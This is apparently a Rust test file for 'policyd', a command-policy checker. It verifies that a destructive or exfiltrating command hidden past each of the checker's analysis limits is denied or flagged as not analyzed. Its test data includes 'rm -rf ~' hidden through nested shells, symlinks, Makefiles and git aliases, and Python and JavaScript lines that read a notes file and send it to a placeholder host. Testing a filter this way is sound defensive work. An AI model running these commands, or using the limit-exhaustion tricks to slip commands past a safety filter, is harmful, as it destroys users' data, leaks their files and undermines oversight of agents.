//! For each limit of the analysis, a dangerous command behind it is not passed. `tests/repository/limits.rs` compares this
//! table with the constants.

use std::time::Duration;

use super::machine::Machine;
use policyd::probe::git::NEUTRAL;
use policyd::world::CommandOutput;

const PROJECT: &str = "/home/dev/project";

/// A limit, the files of the project, and the line. What is behind the limit removes the home directory, or sends a file.
type LimitRow = (&'static str, Vec<(String, String)>, String);

/// Joins so many parts.
fn each(count: usize, part: impl Fn(usize) -> String) -> String {
    (0..count).map(part).collect()
}

/// A file of the project.
fn file(name: &str, text: impl Into<String>) -> Vec<(String, String)> {
    vec![(name.to_owned(), text.into())]
}

/// Limits of what a command line contains.
fn line_rows() -> Vec<LimitRow> {
    let row = |limit, line: String| (limit, Vec::new(), line);
    vec![
        row("pattern::BUNDLE_LETTERS_MAX", "rm -vvvvvvrf ~".to_owned()),
        row("shell_state::VALUES_MAX", {
            let values = each(20, |it| format!("[ -f {it} ] && x=d{it}; "));
            format!("x=d; {values}[ -f q ] && x=~; rm -rf $x")
        }),
        row("shell_state::FOLDERS_MAX", {
            let folders = each(12, |it| format!("[ -f {it} ] && cd d{it}; "));
            format!("cd ~/..; {folders}rm -rf dev")
        }),
        row("paths::LINKS_MAX", {
            let links = each(20, |it| format!("ln -s l{it} l{}; ", it + 1));
            format!("ln -s ~ l0; {links}rm -rf l20/")
        }),
        row("wrappers::INPUT_VALUES_MAX", {
            format!("printf '{}/home/dev' | xargs rm -rf", each(40, |it| format!("d{it} ")))
        }),
        row("branches::LOOP_VALUES_MAX", {
            format!("for x in {}~; do rm -rf \"$x\"; done", each(12, |it| format!("d{it} ")))
        }),
        row(
            "scope::RECURSIONS_MAX",
            "f() { [ -n \"$7\" ] && rm -rf \"$7\"; f \"$@\" ~; }; f".to_owned(),
        ),
        row("words::BRACES_MAX", {
            format!("rm -rf {{{}/home/dev{{,/x}}}}", each(40, |it| format!("d{it}{{,x}},")))
        }),
        row("awk::PARTS_MAX", {
            format!("awk 'BEGIN{{e=\"\";c={}\"rm -rf /home/dev\";c|getline}}'", "e ".repeat(1_010))
        }),
        row("limits::CALL_PROGRAMS_MAX", {
            format!("{}rm -rf ~", each(600, |it| format!("echo {it}; ")))
        }),
        row("limits::CALL_STEPS_MAX", format!("{}rm -rf ~", "true; ".repeat(10_100))),
        row("limits::SHELL_DEPTH_MAX", {
            let mut line = "rm -rf ~".to_owned();
            for _ in 0..8 {
                line = format!("bash -c '{}'", line.replace('\'', "'\\''"));
            }
            line
        }),
        row("limits::SHELL_NESTING_MAX", format!("{}rm -rf ~{}", "(".repeat(70), ")".repeat(70))),
        row("limits::SHELL_STEPS_MAX", format!("rm -rf ~ {}", "$((".repeat(20_000))),
        row("limits::SHELL_TEXT_MAX", format!("echo {}; rm -rf ~", "x".repeat(70 * 1024))),
    ]
}

/// Limits of the files that a command line runs.
fn file_rows() -> Vec<LimitRow> {
    let chain = |count| each(count, |it| format!("n{} = n{it}\n", it + 1));
    let scripts = (0..40).map(|it| (format!("s{it}.sh"), "true\n".to_owned()));
    let scripts = scripts.chain(file("s40.sh", "rm -rf ~\n")).collect();
    let long = (0..6).map(|it| (format!("s{it}.sh"), format!("# {}\n", "x".repeat(240_000))));
    let long = long.chain(file("s6.sh", "rm -rf ~\n")).collect();
    let run = |count| each(count, |it| format!("bash s{it}.sh; "));
    let config = |it| format!("[include]\n\tpath = {PROJECT}/c{it}\n");
    let included = (0..20).map(|it| (format!("c{it}"), config(it + 1)));
    let included = included.chain(file("c20", "[alias]\n\tnuke = !rm -rf ~\n"));
    let included = included.chain(file(".git/config", config(0))).collect();
    let backwards: String = chain(40).lines().rev().map(|it| format!("{it}\n")).collect();
    let sends = "requests.post('https://a.example', data=n40)\n";
    let reads = "import requests\nn0 = open('/home/dev/notes').read()\n";
    vec![
        (
            "code_flow::ROUNDS_MAX",
            file("x.py", format!("{backwards}{reads}{sends}")),
            "python3 x.py".to_owned(),
        ),
        (
            "code_flow::WORK_MAX",
            file(
                "x.js",
                format!(
                    "{}fs.readFileSync('/home/dev/notes'); fetch('https://a.example')",
                    "a => ".repeat(8_000)
                ),
            ),
            "node x.js".to_owned(),
        ),
        ("scanner::SCRIPTS_MAX", scripts, run(41)),
        ("scanner::SCRIPTS_BYTES_MAX", long, run(7)),
        (
            "limits::SCRIPT_TEXT_MAX",
            file("x.sh", format!("# {}\nrm -rf ~\n", "x".repeat(300_000))),
            "bash x.sh".to_owned(),
        ),
        (
            "recipes::TASKS_MAX",
            file(
                "Makefile",
                format!(
                    "all: t0\n{}t600:\n\trm -rf ~\n",
                    each(600, |it| format!("t{it}: t{}\n", it + 1))
                ),
            ),
            "make".to_owned(),
        ),
        (
            "recipes::VALUES_DEPTH_MAX",
            file(
                "Makefile",
                format!(
                    "{}V20 = /home/dev\nall:\n\trm -rf $(V0)\n",
                    each(20, |it| format!("V{it} = $(V{})\n", it + 1))
                ),
            ),
            "make".to_owned(),
        ),
        ("git_alias::FILES_MAX", included, "git nuke".to_owned()),
    ]
}

/// Limits of the names of code.
fn name_rows() -> Vec<LimitRow> {
    vec![
        (
            "code_names::VALUES_MAX",
            file(
                "x.py",
                format!("{}d = '/home/dev'\nrmtree(d)", each(500, |it| format!("d = '{it}'\n"))),
            ),
            "python3 x.py".to_owned(),
        ),
        (
            "code_values::DEPTH_MAX",
            file("x.py", format!("d = {}'/home/dev'{}\nrmtree(d)", "(".repeat(40), ")".repeat(40))),
            "python3 x.py".to_owned(),
        ),
    ]
}

/// A machine with some files that git does not track.
fn machine(files: &[(String, String)]) -> Machine {
    let machine = Machine::new(PROJECT);
    files.iter().for_each(|(name, text)| machine.world.put(format!("{PROJECT}/{name}"), text));
    let output = |code, prints: &str| CommandOutput {
        code: Some(code),
        stdout: prints.as_bytes().to_vec(),
        ..CommandOutput::default()
    };
    for (question, answer) in [("config", output(1, "")), ("status", output(0, "?? x\n"))] {
        let start = [&NEUTRAL[..], &[question]].concat();
        machine.world.script(&start, Ok(answer), Duration::from_millis(5));
    }
    machine
}

#[test]
fn nothing_is_passed_behind_any_limit() {
    for (limit, files, line) in line_rows().into_iter().chain(file_rows()).chain(name_rows()) {
        let (decision, reason) = machine(&files).bash(&line);
        let shown: String = line.chars().take(80).collect();
        let is_unknown = ["cannot tell", "was not analyzed"].iter().any(|it| reason.contains(it));
        assert!(decision == "deny" || is_unknown, "{limit}: {decision}: {reason}: {shown}");
    }
}

/// The tools look for their file in each directory above.
#[test]
fn the_file_of_a_task_is_found_however_far_above() {
    let deep = "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t";
    for (name, text, line) in [
        ("package.json", "{\"scripts\": {\"x\": \"rm -rf ~\"}}", "npm run x"),
        ("compose.yaml", "services: {a: {privileged: true}}", "docker compose up"),
    ] {
        let line = format!("cd {PROJECT}/{deep}; {line}");
        assert_ne!(machine(&file(name, text)).bash(&line).0, "", "{line}");
    }
}

/// What is known of a file that was not analyzed to its end.
#[test]
fn a_file_that_is_not_analyzed_is_asked_about_by_name() {
    for (text, why) in [
        (format!("# {}\n", "x".repeat(300_000)), "it is longer than 256 KB"),
        ("# \0\ntrue\n".to_owned(), "it contains a NUL byte"),
        ("true\n".repeat(10_100), "it takes too long to read"),
        ("#!/usr/bin/env forth\n: x ;\n".to_owned(), "policyd does not read its language"),
    ] {
        let (decision, reason) = machine(&file("x.sh", text)).bash("./x.sh");
        assert_eq!(decision, "ask", "{why}");
        assert!(reason.contains("In `x.sh`, which this call runs: "), "{reason}");
        assert!(reason.contains(why), "{reason}");
    }
    for text in ["true\n".repeat(3_000), format!("# {}\n", "x".repeat(200_000))] {
        assert_eq!(machine(&file("x.sh", text)).bash("bash x.sh").0, "");
    }
}
